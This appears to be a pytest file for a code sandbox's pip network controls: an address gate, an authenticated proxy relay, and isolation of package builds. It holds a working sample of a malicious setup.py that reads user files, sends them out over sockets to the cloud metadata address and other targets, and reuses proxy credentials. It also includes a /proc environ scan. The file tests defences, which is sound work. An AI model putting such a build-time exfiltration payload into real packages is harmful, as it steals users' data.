"""The way out for pip: where it leads, who may use it, and what the code of a package that is built can see and send."""

from __future__ import annotations

import http.server
import io
import socket
import tarfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import docker
import pytest

from sandbox.container import SandboxContainer
from sandbox.exec_stream import Command
from sandbox.network import attach_network, detach_network
from sandbox.packages.gate import Gate, Refused, gate_for, is_public
from sandbox.packages.install import Installation, PipRequest, install_packages
from sandbox.packages.relay import Relay
from sandbox.verdicts import Verdict
from tests.network import Listener, gateway
from utils.docker_utils import PACKAGES, PIP_USER, PROGRAM_USER, ContainerRequest, Limits, unique_name


@pytest.fixture(scope="module")
def container(engine: docker.APIClient, image: str) -> Iterator[SandboxContainer]:
    container = SandboxContainer(engine, ContainerRequest(image, unique_name(), Limits(memory=1024**3, network="install")))
    yield container
    container.remove()


def run(container: SandboxContainer, argv: list[str], user: str = PROGRAM_USER, stdin: str = "") -> str:
    return container.run(Command(argv, seconds=60, user=user, stdin=f"{stdin}\n".encode())).output.decode()


# --- the gate --------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "address",
    ["127.0.0.1", "10.0.0.1", "172.17.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1", "0.0.0.0", "224.0.0.1", "255.255.255.255"]
    + ["::1", "fe80::1", "fe80::1%eth0", "fd00:ec2::254", "::ffff:10.0.0.1", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "ff02::1"]
    + ["2002:a00:1::1", "::", "nonsense", "198.18.0.1", "240.0.0.1"],
)
def test_addresses_that_are_not_of_the_public_internet(address: str) -> None:
    assert not is_public(address)


@pytest.mark.parametrize("address", ["8.8.8.8", "151.101.0.223", "2a04:4e42::223", "::ffff:8.8.8.8"])
def test_addresses_of_the_public_internet(address: str) -> None:
    assert is_public(address)


def test_only_pypi_is_let_out_to_unless_addresses_are_wanted() -> None:
    gate = gate_for("", addresses=False)
    assert gate.hosts == {("pypi.org", 443), ("files.pythonhosted.org", 443)}
    for host, port in (("8.8.8.8", 443), ("pypi.org", 80), ("upload.pypi.org", 443), ("127.0.0.1", 443), ("169.254.169.254", 80)):
        with pytest.raises(Refused):
            gate.addresses(host, port)
    wide = gate_for("", addresses=True)
    assert wide.addresses("8.8.8.8", 443) == [("8.8.8.8", 443)]
    for host, port in (("8.8.8.8", 22), ("127.0.0.1", 443), ("localhost", 80), ("169.254.169.254", 80), ("::1", 443)):
        with pytest.raises(Refused):
            wide.addresses(host, port)


def test_an_index_of_ones_own_is_allowed_wherever_it_is() -> None:
    gate = gate_for("http://jo:pw@127.0.0.1:3141/simple", addresses=False)
    assert gate.addresses("127.0.0.1", 3141) == [("127.0.0.1", 3141)]
    with pytest.raises(Refused):
        gate.addresses("127.0.0.1", 80)
    assert gate_for("https://Index.example/simple", addresses=False).hosts == {("index.example", 443)}


# --- the relay -------------------------------------------------------------------------------------------------------------------

_ASK = """
import base64, socket, sys
from urllib.parse import urlsplit
url, target = input().split()
at = urlsplit(url)
login = base64.b64encode(f"{at.username}:{at.password}".encode()).decode()
head = f"Proxy-Authorization: Basic {login}\\r\\n" if at.password else ""
s = socket.create_connection((at.hostname, at.port), 10)
s.sendall(f"CONNECT {target} HTTP/1.1\\r\\n{head}\\r\\n".encode())
print(s.recv(1000).decode().split("\\r\\n")[0])
s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
print(s.recv(1000)[:12])
"""


@pytest.mark.engine
def test_nobody_uses_it_without_its_password(container: SandboxContainer) -> None:
    with Listener() as listener:
        target = f"127.0.0.1:{listener.port}"
        gate = Gate(frozenset({("127.0.0.1", listener.port)}), public=False)
        with Relay(container, gate) as relay:
            port = relay.url.rpartition(":")[2]
            for url in (f"http://127.0.0.1:{port}", f"http://pip:guess@127.0.0.1:{port}"):
                assert "200" not in run(container, ["python3", "-c", _ASK], stdin=f"{url} {target}")
            assert listener.visits == []
            # Neither the arguments nor the surroundings of pip's processes tell it to a program.
            seen = run(container, ["sh", "-c", "cat /proc/*/cmdline /proc/*/environ 2>/dev/null; true"])
            assert relay.url not in seen
            assert relay.hide(relay.url) == f"http://pip:****@127.0.0.1:{port}"
            # The positive control: with the password it leads where the gate allows, and nowhere else.
            assert "200" in run(container, ["python3", "-c", _ASK], PIP_USER, f"{relay.url} {target}")
            assert len(listener.visits) == 1
            assert "403" in run(container, ["python3", "-c", _ASK], PIP_USER, f"{relay.url} 169.254.169.254:80")
            assert relay.refused == ["169.254.169.254:80 is not the package index"]
        assert "refused" in run(
            container, ["sh", "-c", f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\" 2>&1"]
        )


@contextmanager
def sender(size: int) -> Iterator[int]:
    """Serve `size` bytes to each visitor, on a port of this machine."""
    server = socket.create_server(("127.0.0.1", 0))

    def send(connection: socket.socket) -> None:
        with connection:
            connection.recv(1000)
            connection.sendall(bytes(size))

    def serve() -> None:
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            threading.Thread(target=send, args=(connection,), daemon=True).start()

    threading.Thread(target=serve, daemon=True).start()
    yield int(server.getsockname()[1])
    server.shutdown(socket.SHUT_RDWR)
    server.close()


_TWO = (
    _ASK.partition("s = socket")[0]
    + """
def open_one():
    s = socket.create_connection((at.hostname, at.port), 30)
    s.sendall(f"CONNECT {target} HTTP/1.1\\r\\n{head}\\r\\n".encode())
    assert b"200" in s.recv(39), "no tunnel"
    s.sendall(b"x")
    return s
def count(s):
    total = 0
    while data := s.recv(65536):
        total += len(data)
    return total
slow, quick = open_one(), open_one()
print(count(quick), count(slow))
"""
)


@pytest.mark.engine
def test_a_connection_that_nobody_reads_holds_up_no_other_and_loses_nothing(container: SandboxContainer) -> None:
    size = 8 * 1024**2  # more than all the buffers on the way
    with sender(size) as port, Relay(container, Gate(frozenset({("127.0.0.1", port)}), public=False)) as relay:
        assert run(container, ["python3", "-c", _TWO], PIP_USER, f"{relay.url} 127.0.0.1:{port}") == f"{size} {size}\n"


# --- a package that is built -----------------------------------------------------------------------------------------------------

# What an attacker would put into a package: it runs when the package is built from source.
_ATTACK = """
import os, socket
seen = []
for path in ("/workspace/customers.csv", "/home/sandbox/notes.txt"):
    try:
        seen.append(open(path).read())
    except OSError as error:
        seen.append(type(error).__name__)
data = " ".join(seen).encode()
for host, port in TARGETS:
    try:
        with socket.create_connection((host, port), 2) as out:
            out.sendall(data)
    except OSError:
        pass
proxy = os.environ.get("https_proxy", "")
if proxy:
    import base64, urllib.parse
    at = urllib.parse.urlsplit(proxy)
    login = base64.b64encode(f"{at.username}:{at.password}".encode()).decode()
    for host, port in TARGETS:
        with socket.create_connection((at.hostname, at.port), 10) as out:
            out.sendall(f"CONNECT {host}:{port} HTTP/1.1\\r\\nProxy-Authorization: Basic {login}\\r\\n\\r\\n".encode())
            if b" 200 " in out.recv(1000):
                out.sendall(data)
with open(os.path.join(os.environ["PYTHONUSERBASE"], "attack-ran"), "w") as file:
    file.write(" ".join(seen))
"""


def sdist(setup: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, text in (("setup.py", setup), ("PKG-INFO", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")):
            member = tarfile.TarInfo(f"evil-1.0/{name}")
            member.size = len(text.encode())
            archive.addfile(member, io.BytesIO(text.encode()))
    return buffer.getvalue()


@contextmanager
def index(folder: Path) -> Iterator[str]:
    """Serve the folder as a package index on this machine's loopback."""

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *args: object) -> None:
            super().__init__(*args, directory=str(folder))  # type: ignore[arg-type]

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}/simple"
        server.shutdown()
        thread.join()


@pytest.mark.engine
def test_a_package_that_is_built_sees_no_file_of_yours_and_sends_nothing(
    engine: docker.APIClient, container: SandboxContainer, tmp_path: Path
) -> None:
    run(container, ["sh", "-c", "echo ann,42 >customers.csv; echo secret >~/notes.txt"])
    with Listener() as listener:
        targets = [(gateway(engine), listener.port), ("169.254.169.254", 80), ("127.0.0.1", listener.port)]
        attack = _ATTACK.replace("TARGETS", repr(targets))
        (tmp_path / "simple/evil").mkdir(parents=True)
        (tmp_path / "simple/evil/evil-1.0.tar.gz").write_bytes(
            sdist(attack + "\nfrom setuptools import setup\nsetup(name='evil', version='1.0')\n")
        )
        (tmp_path / "simple/evil/index.html").write_text('<a href="evil-1.0.tar.gz">evil-1.0.tar.gz</a>')
        try:
            with index(tmp_path) as url:
                # Wheels only: the code does not run, and it is known why nothing was found.
                done = install(container, url, build=False)
                assert (done.verdict, done.sources) == (Verdict.FAILED, ("evil",)), done.output
                assert run(container, ["sh", "-c", f"ls -A {PACKAGES}"]) == ""
                # Built after a yes: the code runs, and gets nowhere.
                done = install(container, url, build=True)
            ran = run(container, ["sh", "-c", f"cat {PACKAGES}/attack-ran"])
            assert ran == "PermissionError PermissionError", done.output
            assert listener.visits == []
            assert "169.254.169.254 is not a public address" in done.refused
            # The positive control: the same code as a program, with the network attached, reads the files and sends them.
            attach_network(container)
            run(container, ["sh", "-c", 'PYTHONUSERBASE=/tmp exec python3 -c "$0"', attack])
            assert [line for line in listener.asked if "ann,42" in line]
        finally:
            detach_network(container)
            run(container, ["sh", "-c", "rm -rf /workspace/* ~/notes.txt"])
            run(container, ["sh", "-c", f"rm -rf {PACKAGES}/*"], PIP_USER)


def install(container: SandboxContainer, url: str, *, build: bool) -> Installation:
    requests = [PipRequest(("evil",), ("--no-build-isolation",) if build else (), build=build)]
    stop, disk = threading.Event(), Limits().disk
    return install_packages(container, requests, network="install", index_url=url, disk=disk, stop=stop)
